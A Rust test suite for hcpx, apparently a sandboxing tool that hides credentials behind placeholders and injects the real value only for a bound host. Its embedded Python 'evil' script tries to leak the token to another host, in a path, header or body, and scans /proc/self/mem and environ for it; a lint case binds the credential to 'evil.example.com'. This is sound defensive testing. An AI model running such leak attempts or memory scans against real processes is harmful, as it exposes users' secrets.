//! Credentials a wrap never holds (issue #36 point 5, docs/security.md Hosts, docs/egress.md Placeholders),
//! through the real `hcpx` with real TLS: a Binding field bound to `api.test` (`binding.inject`, header
//! `authorization`) reaches the wrap as a random placeholder, and the call's proxy, terminating the child's HTTPS
//! with a CA of the call's own, puts the real value into requests to that host only. HTTPS servers on loopback
//! record every request head that reaches them; hcpx trusts their test CA through its own `SSL_CERT_FILE`, the
//! child only the call's CA. A placeholder sent to another host, in the path, another header or a body is
//! refused and audited; the child finds the real value nowhere in its environment or its memory; an origin whose
//! certificate hcpx does not trust is refused; a call without host-bound fields keeps its blind tunnel.

use serde_json::{json, Value};
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::escape::{evil_with, home_if};
use crate::helpers::Home;
pub(crate) use crate::test_ca::{test_ca, TestCa};

/// A TLS server on loopback: its port, and every request head that reached it.
pub(crate) struct Origin {
    pub(crate) port: u16,
    pub(crate) heads: Arc<Mutex<Vec<String>>>,
}

fn read_head(s: &mut impl Read) -> String {
    let mut buf = Vec::new();
    let mut byte = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") && buf.len() < 64 * 1024 {
        match s.read(&mut byte) {
            Ok(1) => buf.push(byte[0]),
            _ => break,
        }
    }
    String::from_utf8_lossy(&buf).into_owned()
}

/// Serves `names` with a leaf of `ca`; records each head and answers `hello` (never echoing what it got, so
/// the only way the child could see the value is the one being tested), except `GET /echo`, answered with the
/// head it got (the echo guard's test, composite_secrets.rs).
pub(crate) fn origin(ca: &TestCa, names: &[&str]) -> Origin {
    let config = ca.server(names, false);
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let o = Origin { port: l.local_addr().unwrap().port(), heads: Arc::new(Mutex::new(Vec::new())) };
    let heads = o.heads.clone();
    std::thread::spawn(move || {
        for tcp in l.incoming().flatten() {
            let (config, heads) = (config.clone(), heads.clone());
            std::thread::spawn(move || {
                let _ = tcp.set_read_timeout(Some(Duration::from_secs(5)));
                let Ok(conn) = rustls::ServerConnection::new(config) else { return };
                let mut s = rustls::StreamOwned::new(conn, tcp);
                let head = read_head(&mut s);
                if head.is_empty() {
                    return;
                }
                heads.lock().unwrap().push(head.clone());
                let body = if head.starts_with("GET /echo ") { head } else { "hello".to_string() };
                let _ = write!(
                    s,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                    body.len()
                );
                s.conn.send_close_notify();
                let _ = s.flush();
            });
        }
    });
    o
}

/// The bin: each request the test needs, what it sees of the token, and a search of its own environment and
/// memory for the real value, which it holds in two halves (`a`, and `b` reversed) and never joins.
fn script(port: u16, rogue: u16, value: &str) -> String {
    let (a, b) = value.split_at(value.len() / 2);
    let b: String = b.chars().rev().collect();
    format!(
        r#"#!/usr/bin/python3
import json, os, shutil, ssl, subprocess, urllib.error, urllib.request
here = os.path.dirname(os.path.realpath(__file__))
token = os.environ.get("API_TOKEN", "")
key = os.environ.get("API_KEY", "")
test_ca = ssl.create_default_context(cafile=os.path.join(here, "..", "ca.pem"))
def get(url, headers={{}}, data=None, ctx=None):
    req = urllib.request.Request(url, headers=headers, data=data)
    try:
        with urllib.request.urlopen(req, timeout=10, context=ctx) as r:
            return "ok %d %s" % (r.status, r.read().decode())
    except urllib.error.HTTPError as e:
        return "refused %d %s" % (e.code, e.read().decode().strip())
    except Exception as e:
        return "error " + repr(e)
def curl(url):
    if not shutil.which("curl"):
        return "no curl"
    r = subprocess.run(["curl", "-sS", "-H", "Authorization: Bearer " + token, url], capture_output=True, timeout=20)
    return ("ok " if r.returncode == 0 else "error %d " % r.returncode) + r.stdout.decode() + r.stderr.decode()
A = b"{a}"
B = b"{b}"[::-1]
def held(chunk):
    n, i = 0, chunk.find(A)
    while i >= 0:
        if chunk[i + len(A):i + len(A) + len(B)] == B:
            n += 1
        i = chunk.find(A, i + 1)
    return n
def in_memory():
    found, read = 0, 0
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps.read().splitlines():
            parts = line.split()
            if "r" not in parts[1] or (len(parts) > 5 and parts[5] in ("[vvar]", "[vsyscall]", "[vvar_vclock]")):
                continue
            lo, hi = (int(x, 16) for x in parts[0].split("-"))
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except (OSError, ValueError, OverflowError):
                continue
            read += len(chunk)
            found += held(chunk)
    return "%d found in %d bytes" % (found, read)
auth = {{"Authorization": "Bearer " + token}}
base = "https://api.test:{port}"
out = {{
    "token": token,
    "ca_vars": [os.environ.get(k, "") == os.environ.get("SSL_CERT_FILE") != None for k in ("CURL_CA_BUNDLE", "REQUESTS_CA_BUNDLE", "NODE_EXTRA_CA_CERTS", "GIT_SSL_CAINFO")],
    "cert_dir": os.environ.get("SSL_CERT_DIR"),
    "allowed": get(base + "/v1/me", auth),
    "test_ca_only": get(base + "/v1/me", auth, ctx=test_ca),
    "query": get(base + "/q?x=1&api_key=" + key),
    "curl": curl(base + "/curl"),
    "key": key,
    "other_host": get("https://other.test:{port}/v1/me", auth),
    "in_path": get(base + "/leak/" + token),
    "other_header": get(base + "/v1/me", {{"X-Leak": token}}),
    "in_body": get(base + "/v1/post", {{"Content-Type": "text/plain"}}, data=("t=" + token).encode()),
    "rogue": get("https://rogue.test:{rogue}/"),
    "environ": held(open("/proc/self/environ", "rb").read()),
    "memory": in_memory(),
}}
print(json.dumps(out))
"#
    )
}

/// A real-looking value, fresh per test.
pub(crate) fn value() -> String {
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos();
    format!("sk-live-{nanos:x}-{:x}", std::process::id())
}

/// The second field's value: not holding the first's.
pub(crate) fn key_of(value: &str) -> String {
    value.replacen("sk-live-", "ak-test-", 1)
}

struct World {
    h: Home,
    api: Origin,
    rogue: Origin,
    value: String,
    ca_file: String,
}

/// Installs `evil` with `token` from its Binding in `API_TOKEN`, bound to `api.test` when `inject`; the hosts
/// `api.test`, `other.test` (same server) and `rogue.test` (a server whose CA hcpx does not trust) allowed.
fn world(inject: bool) -> Option<World> {
    let h = home_if("seccomp")?;
    let ca = test_ca("hcpx secrets test ca");
    let api = origin(&ca, &["api.test", "other.test"]);
    let rogue = origin(&test_ca("a ca nobody trusts"), &["rogue.test"]);
    let value = value();
    let hosts = [
        format!("api.test:{}", api.port),
        format!("other.test:{}", api.port),
        format!("rogue.test:{}", rogue.port),
    ];
    let (py, pem) = (script(api.port, rogue.port, &value), ca.pem.clone());
    evil_with(&h, "", "read", "none", |f| {
        f.surface["hosts"] = json!(hosts);
        f.surface["binding"] = json!({ "mode": "local" });
        if inject {
            f.surface["binding"]["inject"] = json!([
                { "field": "token", "host": hosts[0], "header": "authorization" },
                { "field": "key", "host": hosts[0], "query": "api_key" }
            ]);
        }
        f.surface["wrap"]["agent_env"] =
            json!({ "API_TOKEN": "{{binding.token}}", "API_KEY": "{{binding.key}}" });
        f.files = vec![("bin/evil".into(), py, true), ("ca.pem".into(), pem, false)];
    });
    let key = key_of(&value);
    for (field, v) in [("token", &value), ("key", &key)] {
        let set = h.run_with(&["credential", "set", "evil", field], &[], Some(v));
        assert_eq!(set.status.code(), Some(0), "{}", String::from_utf8_lossy(&set.stderr));
    }
    let allow = h.run(&["allow-host", "evil", &hosts[0], &hosts[1], &hosts[2], "--json"]);
    assert_eq!(allow.status.code(), Some(0), "{}", String::from_utf8_lossy(&allow.stdout));
    let cfg = json!({ "egress": {
        "hosts": { "api.test": ["127.0.0.1"], "other.test": ["127.0.0.1"], "rogue.test": ["127.0.0.1"] },
        "internal": ["api.test", "other.test", "rogue.test"]
    }});
    h.write_store("sandbox.json", &cfg.to_string());
    let ca_file = h.t.join("test-ca.pem");
    std::fs::write(&ca_file, &ca.pem).unwrap();
    Some(World { h, api, rogue, value, ca_file: ca_file.display().to_string() })
}

/// Runs `evil go` with hcpx trusting the test CA; the envelope.
fn go(w: &World) -> Value {
    let out = w.h.run_env(&["exec", "evil", "go", "--json"], &[("SSL_CERT_FILE", &w.ca_file)]);
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("not JSON ({e}): {}", String::from_utf8_lossy(&out.stdout)));
    assert_eq!(v["ok"], true, "{v}");
    v
}

fn got<'a>(r: &'a Value, what: &str) -> &'a str {
    r[what].as_str().unwrap_or_else(|| panic!("no {what}: {r}"))
}

fn egress_rows(h: &Home) -> Vec<Value> {
    h.audit_log()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|r| r.get("egress").is_some())
        .collect()
}

#[test]
fn a_host_bound_credential_reaches_its_host_and_the_wrap_sees_only_a_placeholder() {
    let Some(w) = world(true) else { return };
    let v = go(&w);
    let r = &v["result"];
    let token = got(r, "token");
    assert!(token.starts_with("hcpx-ph-") && token.len() == 40, "the child sees a placeholder: {r}");
    // The child trusts the call's CA (every common variable), not the origin's; hcpx verified the origin.
    assert_eq!(got(r, "allowed"), "ok 200 hello", "{r}");
    assert!(got(r, "test_ca_only").contains("CERTIFICATE_VERIFY_FAILED"), "the child talks to hcpx: {r}");
    assert_eq!(r["ca_vars"], json!([true, true, true, true]), "{r}");
    assert_eq!(r["cert_dir"], "", "{r}");
    // What reached the origin: the real value in the allowed request's authorization header, and no
    // placeholder anywhere.
    let heads = w.api.heads.lock().unwrap().clone();
    let with_value: Vec<&String> = heads
        .iter()
        .filter(|h| h.contains(&w.value) && !h.contains("api_key") && !h.starts_with("GET /curl "))
        .collect();
    assert_eq!(with_value.len(), 1, "{heads:?}");
    assert!(with_value[0].starts_with("GET /v1/me "), "{heads:?}");
    assert!(with_value[0]
        .to_ascii_lowercase()
        .contains(&format!("authorization: bearer {}", w.value.to_ascii_lowercase())));
    assert!(heads.iter().all(|h| !h.contains("hcpx-ph-") && !h.contains("/leak")), "{heads:?}");
    // curl (OpenSSL, CURL_CA_BUNDLE) as well as Python, where curl is installed.
    let curl = got(r, "curl");
    if curl != "no curl" {
        assert_eq!(curl, "ok hello", "{r}");
        let sent = heads.iter().find(|h| h.starts_with("GET /curl ")).unwrap_or_else(|| panic!("{heads:?}"));
        assert!(sent.contains(&format!("Bearer {}", w.value)), "{sent}");
    }
    // The query form: the key's placeholder became the real key in its parameter, and only there.
    let key = got(r, "key");
    assert!(key.starts_with("hcpx-ph-") && key != token, "{r}");
    assert_eq!(got(r, "query"), "ok 200 hello", "{r}");
    let want = format!("GET /q?x=1&api_key={} HTTP/1.1", key_of(&w.value));
    assert!(heads.iter().any(|h| h.starts_with(&want)), "{heads:?}");
    // Nothing the call printed holds the value.
    assert!(!v.to_string().contains(&w.value), "{v}");
}

#[test]
fn a_placeholder_sent_anywhere_else_is_refused_and_audited() {
    let Some(w) = world(true) else { return };
    let v = go(&w);
    let r = &v["result"];
    for what in ["other_host", "in_path", "other_header", "in_body"] {
        let g = got(r, what);
        assert!(
            g.starts_with("refused 403 egress placeholder: ") && g.contains("binding field token"),
            "{what}: {r}"
        );
        assert!(!g.contains(&w.value), "{what}: {r}");
    }
    let rows = egress_rows(&w.h);
    let refused: Vec<&Value> = rows.iter().filter(|r| r["egress"]["refused"] == "placeholder").collect();
    assert_eq!(refused.len(), 4, "one row per refused request: {rows:?}");
    for row in &refused {
        assert_eq!(row["ok"], false, "{row}");
        assert!(row["egress"]["reason"].as_str().unwrap().contains("binding field token"), "{row}");
    }
    let hosts: Vec<&str> = refused.iter().map(|r| r["egress"]["host"].as_str().unwrap()).collect();
    assert!(hosts.contains(&"other.test"), "{hosts:?}");
    // Each request inside the terminated tunnels is a row of its own: the allowed one too.
    assert!(
        rows.iter().any(|r| r["egress"]["host"] == "api.test"
            && r["egress"]["status"] == 200
            && r["egress"]["method"] == "GET"
            && r["egress"].get("refused").is_none()
            && r["ok"] == true),
        "{rows:?}"
    );
    assert!(!w.h.audit_log().contains(&w.value), "the value is never audited");
}

#[test]
fn the_child_finds_the_real_value_in_neither_its_environment_nor_its_memory() {
    let Some(w) = world(true) else { return };
    let v = go(&w);
    let r = &v["result"];
    assert_eq!(r["environ"], 0, "{r}");
    let mem = got(r, "memory");
    assert!(
        mem.starts_with("0 found in ") && !mem.ends_with(" 0 bytes"),
        "the scan read memory and found nothing: {r}"
    );
}

#[test]
fn an_origin_whose_certificate_hcpx_does_not_trust_is_refused() {
    let Some(w) = world(true) else { return };
    let v = go(&w);
    let r = &v["result"];
    let g = got(r, "rogue");
    assert!(g.starts_with("error") && g.contains("502"), "{r}");
    assert!(w.rogue.heads.lock().unwrap().is_empty(), "nothing reached the untrusted origin");
    let rows = egress_rows(&w.h);
    let row = rows.iter().find(|r| r["egress"]["host"] == "rogue.test").unwrap_or_else(|| panic!("{rows:?}"));
    assert_eq!(row["egress"]["refused"], "upstream_tls", "{row}");
}

#[test]
fn without_a_host_bound_field_the_tunnel_stays_blind() {
    let Some(w) = world(false) else { return };
    let v = go(&w);
    let r = &v["result"];
    // The child holds the value as before (the field is not bound to a host), talks TLS with the origin itself
    // (its test CA verifies; no call CA is given), and nothing rewrites what it sends.
    assert_eq!(r["ca_vars"], json!([false, false, false, false]), "{r}");
    assert_eq!(got(r, "test_ca_only"), "ok 200 hello", "{r}");
    assert!(got(r, "allowed").starts_with("error"), "the system roots do not trust the test ca: {r}");
    let heads = w.api.heads.lock().unwrap().clone();
    assert_eq!(heads.len(), 1, "only the request over the child's own tls reached the origin: {heads:?}");
    assert!(heads[0].contains(&format!("Bearer {}", w.value)), "sent by the child as it was: {heads:?}");
    // The same search finds the value where the child does hold it: the scan of the bound case proves something.
    assert_eq!(r["environ"], 1, "{r}");
    assert!(!got(r, "memory").starts_with("0 found"), "{r}");
}

/// A wrap with `token` in `API_TOKEN`, the hosts `api.example.com` and `maps.example.com`, and `inject`.
fn bound(inject: Value) -> crate::helpers::Fixture {
    let mut f = crate::helpers::Fixture::wrap();
    f.surface["hosts"] = json!(["api.example.com", "maps.example.com"]);
    f.surface["binding"] = json!({ "mode": "local", "inject": inject });
    f.surface["wrap"]["agent_env"] =
        json!({ "API_TOKEN": "Bearer {{binding.token}}", "KEY": "{{binding.key}}" });
    f
}

#[test]
fn lint_refuses_each_bad_inject_entry_and_check_names_the_host_each_credential_goes_to() {
    let h = Home::new();
    let f = bound(json!([
        { "field": "token", "host": "api.example.com", "header": "authorization" },
        { "field": "token", "host": "evil.example.com", "header": "authorization" },
        { "field": "token", "host": "maps.example.com" },
        { "field": "token", "host": "maps.example.com", "header": "authorization", "query": "k" },
        { "field": "token", "host": "maps.example.com", "header": "content-length" },
        { "field": "token", "host": "maps.example.com", "header": "bad header" },
        { "field": "unused", "host": "maps.example.com", "query": "k" },
        { "field": "token", "host": "api.example.com", "header": "x-token" },
        { "field": "key", "host": "10.0.0.1", "query": "api_key" }
    ]));
    let dir = f.write(h.t.path());
    let out = h.run(&["lint", dir.to_str().unwrap(), "--json"]);
    assert_eq!(out.status.code(), Some(1));
    let v = crate::helpers::stdout_json(&out);
    let got = crate::helpers::issue_pointers(&v);
    let want = [
        ("inject_host_undeclared", "/binding/inject/1/host"),
        ("inject_invalid", "/binding/inject/2"),
        ("inject_invalid", "/binding/inject/3"),
        ("inject_invalid", "/binding/inject/4/header"),
        ("inject_invalid", "/binding/inject/5/header"),
        ("inject_invalid", "/binding/inject/6/field"),
        ("inject_invalid", "/binding/inject/7"),
        ("host_ip_literal", "/binding/inject/8/host/0"),
    ];
    for (kind, ptr) in want {
        assert!(got.iter().any(|(k, p)| k == kind && p == ptr), "no {kind} at {ptr}: {got:?}");
    }
    assert_eq!(got.len(), want.len(), "{got:?}");
    // An unknown key in an entry is refused like any other unknown field.
    let f =
        bound(json!([{ "field": "token", "host": "api.example.com", "header": "authorization", "to": "x" }]));
    let dir = f.write(&h.t.join("unknown"));
    assert_eq!(h.run(&["lint", dir.to_str().unwrap()]).status.code(), Some(1));
    // The good entries lint clean, and check says which field goes to which host, and where.
    let f = bound(json!([
        { "field": "token", "host": "api.example.com", "header": "Authorization" },
        { "field": "key", "host": "maps.example.com", "query": "api_key" }
    ]));
    let dir = f.write(&h.t.join("good"));
    assert_eq!(h.run(&["lint", dir.to_str().unwrap()]).status.code(), Some(0));
    let out = h.run(&["check", dir.to_str().unwrap(), "--no-eval", "--json"]);
    let hosts = crate::helpers::stdout_json(&out)["network"]["hosts"].clone();
    let creds: Vec<(String, Value)> = hosts
        .as_array()
        .unwrap()
        .iter()
        .map(|h| (h["host"].as_str().unwrap().to_string(), h["credentials"].clone()))
        .collect();
    assert!(creds.contains(&("api.example.com".into(), json!(["token in header authorization"]))), "{hosts}");
    assert!(creds.contains(&("maps.example.com".into(), json!(["key in query api_key"]))), "{hosts}");
    let text =
        String::from_utf8_lossy(&h.run(&["check", dir.to_str().unwrap(), "--no-eval"]).stdout).into_owned();
    assert!(text.contains("credential token in header authorization"), "{text}");
}

#[test]
fn a_served_call_of_another_tenant_gets_its_own_credential_behind_a_placeholder() {
    let Some(w) = world(true) else { return };
    let bob = crate::serve::principal(&w.h, "bob", "acme", crate::serve::ALL, false);
    let tenant_value = format!("{}-acme", w.value.replacen("sk-live-", "sk-acme-", 1));
    for (field, v) in [("token", tenant_value.as_str()), ("key", "acme-key")] {
        let set = w.h.run_with(&["credential", "set", "evil", field, "--tenant", "acme"], &[], Some(v));
        assert_eq!(set.status.code(), Some(0), "{}", String::from_utf8_lossy(&set.stderr));
    }
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_hcpx"));
    cmd.args(["serve", "--listen", "127.0.0.1:0"])
        .env("HCP_HOME", w.h.store())
        .envs(w.h.store_env())
        .env("SSL_CERT_FILE", &w.ca_file)
        .current_dir(w.h.t.path());
    let server = crate::serve::Server::launch(cmd);
    let (status, v) = server.post("/v1/exec/evil/go", &bob, &json!({}));
    assert_eq!(status, 200, "{v}");
    let r = &v["result"];
    assert!(got(r, "token").starts_with("hcpx-ph-"), "{v}");
    assert_eq!(got(r, "allowed"), "ok 200 hello", "{v}");
    assert!(got(r, "other_host").starts_with("refused 403 egress placeholder"), "{v}");
    assert_eq!(r["environ"], 0, "{v}");
    let heads = w.api.heads.lock().unwrap().clone();
    assert!(
        heads.iter().any(|h| h.contains(&format!("Bearer {tenant_value}"))),
        "acme's own value: {heads:?}"
    );
    assert!(heads.iter().all(|h| !h.contains(&format!("Bearer {}\r", w.value))), "not local's: {heads:?}");
}

#[test]
fn the_dry_run_names_the_proxy_and_ca_variables_a_run_would_set() {
    let names = |w: &World| -> Vec<String> {
        let out = w.h.run(&["exec", "evil", "go", "--dry-run", "--json"]);
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        let v: Value = serde_json::from_slice(&out.stdout).unwrap();
        v["dry_run"]["env"].as_array().unwrap().iter().map(|n| n.as_str().unwrap().to_string()).collect()
    };
    let has = |names: &[String], n: &str| names.iter().any(|x| x == n);
    // A host-bound field: the run sets the proxy and makes the child trust the call's CA.
    let Some(bound) = world(true) else { return };
    let env = names(&bound);
    for n in ["HTTPS_PROXY", "https_proxy", "SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS", "API_TOKEN"] {
        assert!(has(&env, n), "{n} missing from {env:?}");
    }
    // No host-bound field: the proxy stays blind, so no CA variable is set.
    let Some(blind) = world(false) else { return };
    let env = names(&blind);
    assert!(has(&env, "HTTPS_PROXY") && !has(&env, "SSL_CERT_FILE"), "{env:?}");
}
